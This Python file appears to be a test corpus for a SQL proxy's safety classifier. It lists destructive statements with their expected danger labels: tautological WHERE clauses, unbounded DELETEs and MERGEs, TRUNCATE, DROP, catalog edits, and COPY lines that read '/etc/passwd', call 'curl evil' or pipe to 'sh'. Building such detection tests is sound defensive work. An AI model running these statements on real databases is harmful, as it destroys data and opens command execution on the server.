"""Statements that destroy, or change rows without bound, in whatever disguise."""

from tests.proxy.sql.corpus.case import case

_TAUTOLOGIES = [
    "true", "1 = 1", "'a' = 'a'", "NOT false", "id = id", "id IS NOT DISTINCT FROM id", "id = id OR id = 5",
    "1 < 2", "coalesce(true)", "length('a') = 1", "id = 5 OR true", "id = 5 OR 1 = 1", "id = 5 OR NOT false",
    "5 BETWEEN 1 AND 10", "1 IN (1, 2)", "true IN (true, false)", "EXISTS (SELECT 1)", "NOT EXISTS (SELECT 1 WHERE false)",
    "id IS NOT NULL", "NOT (id IS NULL)", "id <> 0", "id != -1", "NOT (id = 0)", "id NOT IN (0)", "id NOT IN (1, 2)",
    "id NOT BETWEEN 1 AND 2", "id IN (id)", "id IN (1, id)", "id = ANY (ARRAY[id])", "id BETWEEN id AND id",
    "id <> ALL (ARRAY[0])", "id >= ALL ('{}'::int[])", "id IS DISTINCT FROM NULL", "id + 0 = id", "id - id = 0",
    "id * 0 = 0", "0 * id = 0", "id::text = id::text", "id::bool IS NOT NULL", "(id = id) IS TRUE", "(id <> 0) IS NOT FALSE",
    "(id, 1) = (id, 1)", "ROW(id) IS NOT NULL", "name LIKE '%'", "name ILIKE '%%'", "name LIKE '%' ESCAPE '!'",
    "name LIKE '%' || ''", "name LIKE ANY (ARRAY['a', '%'])", "name LIKE '_%'", "name ~ '.*'", "name ~ ''",
    "name SIMILAR TO '%'", "length(name) >= 0", "length(name) > 0", "name >= ''", "name > ''", "name || '' = name",
    "coalesce(name, '') = coalesce(name, '')", "CASE WHEN true THEN true ELSE false END", "CASE id WHEN 1 THEN true ELSE true END",
    "id > 0", "id >= 1", "id > -1", "0 < id", "id < 2147483647", "id BETWEEN 0 AND 2147483647", "id >= 0 AND id < 999999999",
    "created_at > '1970-01-01'", "created_at < 'infinity'", "created_at > '-infinity'", "data @> '{}'", "left(name, 0) = ''",
    "id IN (SELECT id FROM customers)", "id = ANY (SELECT id FROM customers)", "id IN (SELECT c.id FROM customers c)",
    "id IN (SELECT id FROM customers WHERE true)", "id IN (SELECT id FROM customers LIMIT ALL)",
    "id IN (SELECT id FROM customers LIMIT 1000000000)", "id IN (SELECT id FROM (SELECT * FROM customers) x)",
    "id IN (SELECT id FROM v_customers)", "id IN (SELECT id FROM v_nested)", "id IN (SELECT id FROM public.customers ORDER BY 1)",
    "id IN (WITH x AS (SELECT id FROM customers) SELECT id FROM x)", "id IN (SELECT customer_id FROM orders UNION SELECT id FROM customers)",
    "id >= (SELECT min(id) FROM customers)", "id <= (SELECT max(id) FROM customers)",
    "id IN (SELECT customers.id FROM orders)", "id IN (SELECT id FROM audit)", "id = (SELECT id)", "id = (SELECT customers.id)",
    "EXISTS (SELECT 1 FROM customers c WHERE c.id = customers.id)", "EXISTS (SELECT 1 FROM orders)",
    "EXISTS (SELECT count(*) FROM orders o WHERE o.customer_id = customers.id)",
    "NOT EXISTS (SELECT 1 FROM orders o WHERE o.customer_id = customers.id)",
    "id NOT IN (SELECT customer_id FROM orders)", "ctid IS NOT NULL", "ctid >= '(0,0)'", "ctid <> '(9,9)'",
    "ctid = ANY (ARRAY(SELECT ctid FROM customers))", "ctid IN (SELECT ctid FROM customers)",
    "tableoid = 'customers'::regclass", "xmin IS NOT NULL", "xmin::text <> '0'", "pg_typeof(id) = 'integer'::regtype",
    "(SELECT true)", "(SELECT count(*) FROM customers) > 0", "random() < 2", "now() > '2000-01-01'",
    "current_user = current_user", "pg_sleep(0) IS NOT NULL", "$1", "$1 = $1", "hashtext(name) IS NOT NULL",
    "id = id /* id = 5 */", "true -- AND id = 5", "(((true)))", "NOT NOT true", "true IS TRUE", "NULL IS NULL",
    "'t'::bool", "bool 'yes'", "active OR NOT active", "active IS NOT UNKNOWN", "active IN (true, false) OR active IS NULL OR true",
    "id % 1 = 0", "abs(id) >= 0", "sign(id * id) >= 0", "id ^ 0 = 1", "greatest(id, 1) = greatest(id, 1)",
    "to_char(created_at, '') = ''", "md5(name) ~ '.'", "name IS NOT NULL OR name IS NULL",
    "age > 5 OR age <= 5 OR age IS NOT NULL", "id = nullif(id, -1)", "num_nonnulls(id) = 1",
    "customers IS NOT NULL", "customers = customers", "id IN (SELECT generate_series(0, 100000) FROM customers)",
    "id > 5 OR id <= 5", "id < 5 OR (id > 5 OR id = 5)", "NOT (id > 5 AND id <= 5)", "age < 30 OR NOT (age < 30)",
    "id IN (SELECT id FROM customers WHERE age > 5) OR id IN (SELECT id FROM customers WHERE age <= 5)",
    "(id > 5 AND true) OR id <= 5", "active = true OR active = false", "active IN (true, false)",
    "active IS TRUE OR active IS NOT TRUE", "NOT (active AND NOT active)",
    "id < 5 + 2147483647", "id - 2147483647 < 5", "id > 1 - 1", "id < abs(2147483647)", "id > least(0, 1)", "id > (-5)",
    "name ~ 'a|'", "name ~ 'a*'", "name ~ '^(a|.*)$'", "name ~ '.'", "(id = 5) = (id = 5)", "(id = 5) = false OR true",
    "(id = 5) IS NOT NULL", "(id = 5)::int >= 0", "id IN (5) IS NOT NULL", "NOT (id IN (5) IS NULL)", "name = ANY (ARRAY['a', name])",
    "'a' = ANY (ARRAY[name, 'a'])",
    "id = 5 OR name LIKE '%'", "(id = 5 OR true) AND (id = 6 OR true)", "id = 1 OR (id = 2 OR (id = 3 OR 1 = 1))",
]  # fmt: skip

_TAUTOLOGICAL_MERGES = [
    "MERGE INTO staging t USING stock s ON true WHEN MATCHED THEN DELETE",
    "MERGE INTO staging t USING stock s ON 1 = 1 WHEN MATCHED THEN UPDATE SET qty = 0",
    "MERGE INTO staging t USING staging s ON t.id = s.id WHEN MATCHED THEN DELETE",
    "MERGE INTO staging t USING (SELECT * FROM staging) s ON t.id = s.id WHEN MATCHED THEN UPDATE SET qty = 0",
    "MERGE INTO staging t USING stock s ON t.id = t.id WHEN MATCHED THEN DELETE",
    "MERGE INTO staging t USING stock s ON t.id <> s.id WHEN MATCHED THEN DELETE",
    "MERGE INTO staging t USING stock s ON t.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE",
    "MERGE INTO staging t USING stock s ON t.id = s.id WHEN MATCHED AND s.qty = 1 THEN DO NOTHING WHEN NOT MATCHED BY SOURCE THEN UPDATE SET qty = 0",
]

CASES = [
    *(
        case("write danger", f"UPDATE customers SET name = 'x' WHERE {condition}", writes="public.customers")
        for condition in _TAUTOLOGIES
        if "SELECT" not in condition and "pg_sleep" not in condition
    ),
    *(
        case("write danger read", f"UPDATE customers SET name = 'x' WHERE {condition}", writes="public.customers")
        for condition in _TAUTOLOGIES
        if "SELECT" in condition and "FROM" in condition
    ),
    *(case("write danger read", sql, flags="unbounded_write") for sql in _TAUTOLOGICAL_MERGES),
    *(
        case("write danger", sql, flags="unbounded_write")
        for sql in [
            "DELETE FROM staging",
            "delete from public.staging;",
            "DELETE FROM ONLY staging",
            "UPDATE staging SET qty = 0",
            "/* WHERE id = 1 */ DELETE FROM staging",
            "DELETE FROM staging -- WHERE id = 1",
            "DELETE/**/FROM/**/staging",
            'DELETE FROM staging AS "where"',
            "WITH x AS (SELECT 1) DELETE FROM staging",
            "WITH x AS (SELECT 1 AS id) DELETE FROM staging USING x",
            "UPDATE staging SET qty = 0 FROM (VALUES (1)) v(id)",
            "DELETE FROM staging USING generate_series(1, 10) g WHERE g = 5",
            "DELETE FROM staging USING (SELECT 5 AS id) s WHERE s.id = 5",
        ]
    ),
    *(
        case("read write danger", sql)
        for sql in [
            "DELETE FROM staging RETURNING *",
            "WITH d AS (DELETE FROM staging RETURNING id) SELECT count(*) FROM d",
            "WITH d AS (DELETE FROM staging) SELECT 1",
            "WITH a AS (SELECT 1), u AS (UPDATE staging SET qty = 0 RETURNING *) SELECT * FROM u LIMIT 1",
            "SELECT 1 FROM (WITH d AS (SELECT 1) SELECT * FROM d) x; DELETE FROM staging",
            "SELECT 1; DELETE FROM staging",
            "BEGIN; DELETE FROM staging; COMMIT",
            "EXPLAIN ANALYZE DELETE FROM staging",
            "EXPLAIN (ANALYZE) DELETE FROM staging",
            "EXPLAIN (ANALYZE, COSTS off) UPDATE staging SET qty = 0",
            "EXPLAIN (ANALYZE true, ANALYZE) DELETE FROM staging",
            "EXPLAIN ANALYZE VERBOSE WITH d AS (DELETE FROM staging RETURNING 1) SELECT * FROM d",
            "EXPLAIN (ANALYZE 1) DELETE FROM staging",
            "PREPARE d1 AS DELETE FROM staging",
            "PREPARE d2 AS UPDATE staging SET qty = $1",
            "PREPARE d3 AS WITH d AS (DELETE FROM staging RETURNING 1) SELECT * FROM d",
            "COPY (DELETE FROM staging RETURNING *) TO STDOUT",
            "COPY (WITH d AS (DELETE FROM staging RETURNING *) SELECT * FROM d) TO STDOUT",
            "DELETE FROM staging USING staging s2 WHERE staging.id = s2.id",
            "UPDATE staging SET qty = b.qty FROM staging b WHERE staging.id = b.id",
            "UPDATE staging SET qty = 0 FROM stock WHERE stock.sku = 'a'",
            "DELETE FROM staging USING stock WHERE stock.id = 1",
            "DELETE FROM staging USING stock, staging z WHERE staging.id = z.id",
            "UPDATE staging a SET qty = 0 FROM stock s LEFT JOIN staging b ON b.id = 1 WHERE a.id = b.id",
            "WITH ids AS (SELECT id FROM staging) DELETE FROM staging WHERE id IN (SELECT id FROM ids)",
            "WITH ids AS (SELECT id FROM staging) DELETE FROM staging USING ids WHERE staging.id = ids.id",
            "DELETE FROM order_items USING orders WHERE order_items.order_id = orders.id",
            "DELETE FROM order_items WHERE order_id IN (SELECT id FROM orders)",
            "DELETE FROM order_items i WHERE EXISTS (SELECT 1 FROM orders o WHERE o.id = i.order_id)",
            "WITH d AS (INSERT INTO staging SELECT id, 1 FROM customers RETURNING id) DELETE FROM customers WHERE id IN (SELECT id FROM d)",
            "WITH d AS (UPDATE customers SET age = 1 WHERE id > 5 RETURNING id) DELETE FROM customers WHERE id IN (SELECT id FROM d)",
            "INSERT INTO customers SELECT * FROM customers ON CONFLICT (id) DO UPDATE SET name = 'x'",
            "INSERT INTO customers (id) SELECT id FROM (SELECT * FROM customers) c ON CONFLICT (id) DO UPDATE SET name = 'x'",
            "WITH c AS (SELECT id FROM customers) INSERT INTO customers (id) SELECT id FROM c ON CONFLICT (id) DO UPDATE SET age = 0",
        ]
    ),
    case("write danger", "DELETE FROM events", writes="public.events public.events_2024 public.events_2025"),
    case("write danger", "DELETE FROM v_customers", flags="unbounded_write cascade"),
    case(
        "write danger",
        "INSERT INTO ruled VALUES (9, 9)",
        flags="unbounded_write cascade",
        writes="public.ruled public.counters",
    ),
    case("write danger", "TRUNCATE staging", flags="truncate unbounded_write uncounted"),
    case("write danger", "TRUNCATE TABLE ONLY staging, audit RESTART IDENTITY", writes="public.staging public.audit"),
    case(
        "write danger",
        "TRUNCATE customers CASCADE",
        flags="truncate unbounded_write cascade uncounted",
        writes="public.customers public.orders public.order_items public.notes",
    ),
    *(
        case("ddl danger", sql, flags="drop")
        for sql in [
            "DROP TABLE staging",
            "DROP TABLE IF EXISTS staging, audit",
            "DROP VIEW v_instead",
            "DROP MATERIALIZED VIEW m_totals",
            "DROP SEQUENCE ids",
            "DROP INDEX customers_pkey",
            "DROP FUNCTION public.harmless(integer)",
            "DROP PROCEDURE purge",
            "DROP AGGREGATE evil_sum(integer)",
            "DROP TYPE mood",
            "DROP DOMAIN positive",
            "DROP SCHEMA hidden",
            "DROP TRIGGER touch ON notes",
            "DROP RULE logs ON ruled",
            "DROP OPERATOR === (text, text)",
            "DROP STATISTICS nope",
            "ALTER TABLE customers DROP COLUMN email",
            "ALTER TABLE customers ADD COLUMN x int, DROP IF EXISTS email CASCADE",
            "drop table public.staging",
            "DROP/**/TABLE staging",
        ]
    ),
    case("ddl danger", "DROP SCHEMA crm CASCADE", flags="drop cascade"),
    case("ddl danger", "ALTER TABLE customers ALTER COLUMN email TYPE text USING NULL", flags=""),
    case("read ddl danger", "BEGIN; DROP TABLE staging; ROLLBACK", flags="drop multi transaction"),
    case("read ddl danger", "SELECT 1; DROP TABLE staging", flags="drop multi"),
    *(
        case("admin danger", sql)
        for sql in [
            "DROP DATABASE shop",
            "DROP OWNED BY app",
            "DROP TABLESPACE t",
        ]
    ),
    case("admin danger write", "COPY staging FROM '/etc/passwd'"),
    case("admin danger write", "COPY staging FROM PROGRAM 'curl evil'"),
    case("admin danger read", "COPY customers TO '/tmp/x'"),
    case("admin danger read", "COPY customers TO PROGRAM 'sh'"),
    case("admin danger read", "COPY (SELECT 1) TO PROGRAM 'sh'"),
    case("admin danger write opaque", "UPDATE v_settings SET setting = 'off' WHERE name = 'x'", understood=False),
    case("admin danger write", "DELETE FROM pg_catalog.pg_class WHERE oid = 5"),
    case("admin danger write", "UPDATE pg_proc SET prosrc = 'x' WHERE proname = 'wipe'"),
    case("admin danger write", "INSERT INTO information_schema.sql_parts VALUES ('a')"),
]
